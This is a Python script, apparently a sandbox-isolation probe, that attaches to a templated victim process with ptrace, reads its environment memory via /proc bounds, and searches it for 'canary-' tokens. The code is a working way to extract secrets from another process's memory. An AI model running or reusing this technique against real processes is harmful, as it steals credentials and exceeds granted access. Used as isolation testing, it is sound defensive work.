import ctypes
import os
import re
from pathlib import Path

PEEKDATA, ATTACH, DETACH = 2, 16, 17  # <sys/ptrace.h>
VICTIM = int("{{VICTIM_PID}}")
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long


def environment_bounds():
    """Where the victim's environment lies in its memory, as /proc tells those who may know: (start, end)."""
    fields = Path("/proc/{{VICTIM_PID}}/stat").read_text().rpartition(")")[2].split()
    return int(fields[47]), int(fields[48])  # fields 50 and 51 of proc(5)


def traced(start, end):
    """Bytes of the victim's memory, read while it stands still; then it goes on."""
    if libc.ptrace(ATTACH, VICTIM, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(VICTIM, 0)
    try:
        words = [libc.ptrace(PEEKDATA, VICTIM, ctypes.c_void_p(at), None) for at in range(start & ~7, end, 8)]
    finally:
        libc.ptrace(DETACH, VICTIM, None, None)
    return b"".join(word.to_bytes(8, "little", signed=True) for word in words)


try:
    start, end = environment_bounds()
    print(re.findall(rb"canary-[0-9a-f]+", traced(start, min(end, start + (1 << 20)))), flush=True)
except OSError as error:
    print(f"refused: {error}", flush=True)
